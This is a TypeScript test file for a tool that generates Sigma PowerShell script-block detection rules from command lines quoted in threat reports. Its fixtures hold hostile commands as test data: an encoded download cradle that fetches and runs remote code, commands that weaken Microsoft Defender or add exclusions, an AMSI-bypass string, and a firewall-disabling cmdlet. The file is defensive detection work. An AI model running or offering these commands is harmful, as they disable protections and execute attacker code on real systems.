import { validateRuleDocument } from '../validate/validate-rule';
import { selfTestRule } from '../evaluate/self-test';
import { fidelityCheck } from '../vetting/fidelity';
import { generateBuiltinRules, type TemplatePlatform } from './builtin-sigma-agent';
import { scriptBlockCode } from '@huntforge/observables';
import { scriptTechniquesOf } from './script-blocks';

const article = { title: 'Notes on an intrusion', url: 'https://research.example.org/notes', date: '2026-11-27' };
const item = { evidence: { start: 0, end: 1, text: 'x' }, confidence: 0.9, executable: '' };

const rulesOf = (platform: TemplatePlatform, ...commandLines: string[]) =>
  generateBuiltinRules({ article, platform, cmdlines: commandLines.map((value) => ({ ...item, value })) });
const scriptRules = (platform: TemplatePlatform, ...commandLines: string[]) =>
  rulesOf(platform, ...commandLines).filter((draft) => draft.telemetryClass === 'ps_script');
/** PowerShell's -EncodedCommand spelling of a script: UTF-16LE, Base64. */
const encoded = (code: string) => Buffer.from(code, 'utf16le').toString('base64');

describe('PowerShell script block rules beside the process rules', () => {
  it('writes the ps_script rule of a Defender exclusion, keyed on the cmdlet and the parameter the script used', () => {
    const shown = 'powershell.exe -c "Add-MpPreference -ExclusionPath C:\\ProgramData\\cache"';
    const [draft] = scriptRules('windows', shown);
    expect(draft?.rule.title).toBe('Microsoft Defender Exclusion Added Via PowerShell - ScriptBlock');
    expect(draft?.rule.logsource).toEqual({ product: 'windows', category: 'ps_script' });
    expect(draft?.rule.detection).toEqual({
      selection_1: { 'ScriptBlockText|contains': 'Add-MpPreference' },
      selection_2: { 'ScriptBlockText|contains': '-ExclusionPath' },
      condition: 'all of selection_*',
    });
    const rule = draft?.rule as unknown as Record<string, unknown>;
    expect(validateRuleDocument(rule).findings).toEqual([]);
    expect(selfTestRule(rule, [{ type: 'cmdline', value: shown }]).fires).toBe(true);
    expect(selfTestRule(rule, [{ type: 'cmdline', value: shown }]).baseline?.fires ?? 0).toBe(0);
    expect(fidelityCheck(draft?.detectionValues ?? [], [shown]).unsupported_values).toEqual([]);
    // The process rule of the same behaviour stays.
    expect(rulesOf('windows', shown).map((candidate) => candidate.rule.title)).toContain(
      'Microsoft Defender Exclusion Added Via PowerShell',
    );
  });

  it('reads an encoded command as PowerShell logs it, where the command line shows nothing', () => {
    const shown = `powershell -nop -w hidden -enc ${encoded("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')")}`;
    const drafts = rulesOf('windows', shown);
    const script = drafts.find((draft) => draft.telemetryClass === 'ps_script');
    expect(script?.rule.title).toBe('PowerShell Download Cradle Runs Remote Code - ScriptBlock');
    const rule = script?.rule as unknown as Record<string, unknown>;
    expect(validateRuleDocument(rule).findings).toEqual([]);
    expect(selfTestRule(rule, [{ type: 'cmdline', value: shown }]).fires).toBe(true);
    // The command line itself holds only Base64: no process rule claims the cradle.
    expect(drafts.map((draft) => draft.rule.title)).not.toContain('PowerShell Download Cradle Runs Remote Code');
  });

  it('gives one rule per technique with what each script showed, and none for ordinary scripts', () => {
    const drafts = scriptRules(
      'windows',
      'powershell -c "Set-MpPreference -DisableRealtimeMonitoring $true"',
      'powershell -c "Set-MpPreference -DisableBehaviorMonitoring:$true -DisableIOAVProtection 1"',
    );
    expect(drafts.map((draft) => draft.rule.title)).toEqual(['Microsoft Defender Protection Weakened Via Set-MpPreference - ScriptBlock']);
    const rule = drafts[0]?.rule as unknown as Record<string, unknown>;
    for (const value of ['Set-MpPreference -DisableIOAVProtection $true', 'Set-MpPreference -DisableRealtimeMonitoring 1'])
      expect(selfTestRule(rule, [{ type: 'cmdline', value: `powershell -c "${value}"` }]).fires).toBe(true);
    expect(
      selfTestRule(rule, [{ type: 'cmdline', value: 'powershell -c "Set-MpPreference -DisableRealtimeMonitoring $false"' }]).fires,
    ).toBe(false);
    expect(scriptRules('windows', 'powershell -c "Get-ChildItem C:\\Reports | Sort-Object Length"')).toEqual([]);
    expect(scriptRules('windows', 'powershell -c "Invoke-WebRequest -Uri https://example.org/f.zip -OutFile C:\\Tools\\f.zip"')).toEqual(
      [],
    );
  });

  it('writes none for Linux or macOS articles, or where the author ran the command', () => {
    expect(scriptRules('linux', 'pwsh -c "Add-MpPreference -ExclusionPath /tmp"')).toEqual([]);
    const content = 'To check the sample we ran powershell -c "Add-MpPreference -ExclusionPath C:\\Lab" in our sandbox.';
    const start = content.indexOf('powershell');
    const value = 'powershell -c "Add-MpPreference -ExclusionPath C:\\Lab"';
    const drafts = generateBuiltinRules({
      article,
      platform: 'windows',
      content,
      cmdlines: [{ ...item, value, evidence: { start, end: start + value.length, text: value } }],
    });
    expect(drafts.filter((draft) => draft.telemetryClass === 'ps_script')).toEqual([]);
  });

  it('finds the code PowerShell runs: -Command, -EncodedCommand or a cmdlet typed at its prompt', () => {
    expect(scriptBlockCode('powershell.exe -NoProfile -Command "Get-Process lsass"')).toBe('Get-Process lsass');
    expect(scriptBlockCode(`pwsh -ec ${encoded('Clear-History')}`)).toBe('Clear-History');
    expect(scriptBlockCode('Set-NetFirewallProfile -Enabled False')).toBe('Set-NetFirewallProfile -Enabled False');
    expect(scriptBlockCode('cmd.exe /c whoami /all')).toBeNull();
    expect(scriptTechniquesOf('[Ref].Assembly.GetType("System.Management.Automation.AmsiUtils")').map((t) => t.id)).toEqual([
      'amsi-bypass',
    ]);
    // A Linux technique is never a script block's, whatever the code holds.
    expect(scriptTechniquesOf('echo x >> ~/.bashrc')).toEqual([]);
  });
});
